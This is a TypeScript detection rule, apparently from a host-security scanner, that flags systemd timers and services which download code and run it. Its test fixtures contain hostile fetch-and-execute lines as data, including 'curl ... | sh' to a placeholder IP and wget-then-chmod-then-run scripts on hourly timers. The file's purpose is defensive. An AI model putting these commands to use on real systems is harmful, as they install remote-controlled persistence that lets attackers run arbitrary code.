import { behavioursOf } from "../inventory/closure.ts";
import type { Behaviour, BehaviourKind } from "../programs/program.ts";
import { isUnprotected } from "../programs/urls.ts";
import { evidenceAt } from "./evidence.ts";
import { script, timed } from "./example-host.ts";
import type { ActivationRule, Tree } from "./rule.ts";

const ACCUSED: ReadonlySet<BehaviourKind> = new Set(["fetch-to-interpreter", "fetch-to-executable-file"]);

/** A function nothing calls that gets the script's next version from a host with a name. */
function isUpdaterInWaiting({ kind, confidence, detail }: Behaviour): boolean {
  return kind === "fetch-to-executable-file" && confidence !== "high" && !isUnprotected(detail.url ?? "");
}

/** A tool whose `upgrade` nothing calls. */
function waiting(then: string, url: string): Tree {
  return timed("WorkingDirectory=/srv\nExecStart=/usr/local/bin/tool", {
    "/usr/local/bin/tool": script(`upgrade() {\ncurl -so x ${url}\n${then}\n}\ntrue`),
  });
}

/** Downloaded bytes reach an interpreter or become an executable file. */
export const fetchAndRun: ActivationRule = {
  id: "fetch-and-run",
  subject: "activation",
  title: "Downloads code and runs it",
  severity: "critical",
  confidence: "high",
  signal: "hostile",
  family: "execution",
  depth: "regular",
  techniques: ["T1053.006", "T1105", "T1059.004"],
  controls: ["SI-4", "SI-7", "CM-5"],
  why: "What runs is decided anew by a remote machine at each elapse; the file on disk looks harmless for ever. Loaders and miners are kept alive this way.",
  benign: [
    "Update scripts of hand-installed software that pipe a vendor's installer into a shell",
    "A script's own `upgrade` that nothing calls, over HTTPS from a host with a name (only odd)",
    "Text that only mentions such a command, as an argument of echo or in a comment (not accused)",
  ],
  clears: "download, verify a signature or digest, and only then run; or install the software as a package",
  references: ["https://attack.mitre.org/techniques/T1105/"],

  *check({ closure }, inventory) {
    for (const { behaviour } of behavioursOf(closure)) {
      if (!ACCUSED.has(behaviour.kind)) continue;
      yield {
        ...(isUpdaterInWaiting(behaviour) ? { signal: "odd" as const } : {}),
        says: behaviour.says,
        confidence: behaviour.confidence,
        evidence: [evidenceAt(inventory, behaviour.span)],
      };
    }
  },

  examples: () => ({
    fires: [
      {
        "/etc/systemd/system/a.timer": "[Timer]\nOnCalendar=hourly\n",
        "/etc/systemd/system/a.service":
          "[Service]\nExecStart=/bin/sh -c 'curl -s http://192.0.2.7/x | sh'\n",
      },
      {
        "/etc/systemd/system/a.timer": "[Timer]\nOnCalendar=hourly\n",
        "/etc/systemd/system/a.service": "[Service]\nExecStart=/usr/local/bin/up\n",
        "/usr/local/bin/up": {
          content:
            "#!/bin/sh\nwget -q -O /var/lib/u http://example.test/u\nchmod +x /var/lib/u\n/var/lib/u\n",
          mode: 0o755,
        },
      },
      ...["https://a.example.test/x", "http://a.example.test/x"].map((url) => waiting(`chmod +x x`, url)),
      waiting(". ./x", "https://a.example.test/x"),
      {
        ...waiting("chmod +x x", "https://a.example.test/x"),
        "/usr/local/bin/tool": script("curl -so x https://a.example.test/x\nchmod +x x"),
      },
    ],
    finds: {
      3: ["odd critical medium /usr/local/bin/tool:4: What was downloaded to /srv/x is made executable."],
      4: ["hostile critical medium /usr/local/bin/tool:4: What was downloaded to /srv/x is made executable."],
      5: ["hostile critical medium /usr/local/bin/tool:4: What was downloaded to /srv/x is run."],
      6: ["hostile critical high /usr/local/bin/tool:3: What was downloaded to /srv/x is made executable."],
    },
    quiet: [
      {
        "/etc/systemd/system/a.timer": "[Timer]\nOnCalendar=hourly\n",
        "/etc/systemd/system/a.service":
          "[Service]\nExecStart=/usr/bin/echo 'docs: never run curl http://192.0.2.1/x | sh'\n",
      },
      {
        "/etc/systemd/system/a.timer": "[Timer]\nOnCalendar=hourly\n",
        "/etc/systemd/system/a.service":
          "[Service]\nExecStart=/usr/bin/curl -fsS -m 10 https://hc.example.test/ping/1\n",
      },
    ],
  }),
};
